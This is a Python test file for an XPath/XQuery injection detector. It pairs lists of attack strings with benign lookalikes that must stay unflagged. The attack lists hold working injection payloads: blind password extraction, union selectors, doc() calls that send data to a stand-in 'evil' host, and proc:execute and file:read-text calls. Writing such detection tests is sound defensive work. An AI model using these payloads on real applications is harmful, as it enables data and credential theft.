import pytest
from asking import asking
from lookalikes import AMBIGUOUS, PLAIN, generated

from seawall.systems.threats.detectors.xpath import DETECTOR
from seawall.systems.threats.model import PlaceKind, Severity

ask = asking(DETECTOR)

ATTACKS = (
    "' or count(/*)=1 or 'a'='b",
    "x'] | //user/*[contains(*,'",
    "x'] | //* | /a['",
    "' or name()='username' or 'x'='y",
    "' or string-length(name(/*[1]))=4 or 'a'='b",
    "' and substring(//user[1]/password,1,1)='a",
    "345')]|//*|/a[contains(a,'b",
    '345"]|//*|/a["a',
    "count(/child::node())",
    "x' or name()='username' or 'x'='y",
    "' and count(//*)=1 and '1'='1",
    "' or position()=1 or ''='",
    "' or //*",
    "doc('http://evil/')",
    "doc(concat('http://e/',//a))",
    "' or doc-available('http://x') or '",
    "1 or count(//*)>0",
    "1 or name(/*)='a'",
    "string-length(//user[1]/name)",
    "' or contains(name,'adm') or //x='",
    "']/../../user/*|//x['",
    '")] | //password | a[("',
    "' or ancestor::*/x='1",
    "' or starts-with(name(parent::*),'a') or '",
    "*|//*",
    "') or not(contains(name(/*),'x')) or ('a'='a",
    "substring(name(/*[1]),1,1)='a'",
    "x' or not(false()) or 'a'='b",
    '" and true() or "',
    "//login[user='a' or 'x'='x']",
    "//node[2=2]",
    "'), environment-variable('PATH'), ('",
    "' for $p in //account return $p or '",
    "') let $d := doc('x') return $d (",
    "//secret[position()=4]/child::node()",
    "/*[1]/*[3]/pwd/text()",
    "' or contains(pass,'a') or '",
    "' and ends-with(user,'n') and '",
    "' or ./account or '",
    "' union //account or '",
    "'=//account/name or '",
    "'/../..//*['",
    "'}<x>{//account}</x>{'",
    "' or php:function('a','b') or '",
    "\"] return $a, for $b in collection('x') return $b[",
    "' and (for $a in //account return $a) and '",
    "name(//account[1])",
    "' or .='x",
    '" or @*[1]="x',
    "' or ..//a='x",
    "' or generate-id(/) or '",
    "' or substring-before(//a,'x')='y",
    "x'][1]/following::*['",
    "1] or //a[1",
    "3 | //account",
)
HONEST = (
    "a[0]/b",
    "x[1]|y",
    "parent::__construct()",
    "std::child::x",
    "self::$instance",
    "files[]/name",
    "name()",
    "a|/b",
    "[x]/y",
    "see name() or text() for help",
    "count(items) or sum(items)",
    "text()",
    "node()",
    "last()",
    "jQuery('#a').text()",
    "$(this).text().trim()",
    "el.name()",
    "document('x')",
    "a] / b",
    "path/[id]/x",
    "foo['a']/2",
    "arr[i]/arr[j]",
    "contains(text(), 'x')",
    "//a[contains(text(),'x')]",
    "//a[contains(@href,'x') or contains(@class,'y')]",
    "//book[price>35]/title",
    "https://e.example/x[0]/y[1]?a=b",
    "for (const x in y) { z[a] }",
    "isTrue() or true",
    "a1' ][=<$%?Z",
    "data['user'][1]/2",
    "x | // a comment",
    "' and /* note */ then",
    "the file 'a' and /etc/hosts are there to see",
)


@pytest.mark.parametrize("text", ATTACKS)
def test_attacks_are_found(text):
    assert ask(text)[1] >= 0.75


def test_honest_values_stay_below_ambiguous():
    assert [text for text in HONEST + PLAIN if ask(text)[1] >= 0.6] == []


def test_what_people_paste_stays_below_sure():
    assert [text for text in AMBIGUOUS if ask(text)[1] >= 0.75] == []


def test_honest_values_as_they_come_are_not_flagged():
    assert [text for text in generated(1_000, seed=5) if ask(text)[1] >= 0.6] == []


@pytest.mark.parametrize(
    "text",
    [
        "//div[@class='price']/text()",
        "//tr[position()>1]/td[2]/text()",
        "/html/body/div[1]/p[2]/text()",
        "/order/item[1]/text()",
    ],
)
def test_paths_into_pages_are_not_acted_upon(text):
    signals = DETECTOR.scan(text, PlaceKind.QUERY)
    assert all(signal.severity < Severity.HIGH for signal in signals)


@pytest.mark.parametrize(
    "text",
    [
        "for $p in //account return $p/pin",
        "some $a in doc('a.xml')//b satisfies $a = 1",
        "let $d := /accounts return $d",
        "'or/*or'",
        "' or //* or ''='",
        '" or /* or "',
        "'and//account and'",
        "' or account/pin[1] or '",
        "//account[nr='1']/password",
        "' or proc:execute('id') or '",
        "file:read-text('/srv/a')",
        "' or db:list() or '",
        "concat('a',//pin)",
        "3 or true()",
        "' or (: nothing :) //account or '",
    ],
)
def test_what_goes_on_between_or_beyond_is_found(text):
    assert ask(text)[1] >= 0.8


@pytest.mark.parametrize(
    "text",
    [
        "he said 'and/or' is bad style",
        "either 'a' or /b/ as a regex",
        "it's and/or the other",
        "'this' or 'that'/'other'",
        "let $x be the price for $20 in cash",
        "file:read me first (now)",
        "(: a smiley and another :)",
        "user:name (optional)",
        "/account/password",
    ],
)
def test_what_only_sounds_like_it_stays_below_ambiguous(text):
    assert ask(text)[1] < 0.5
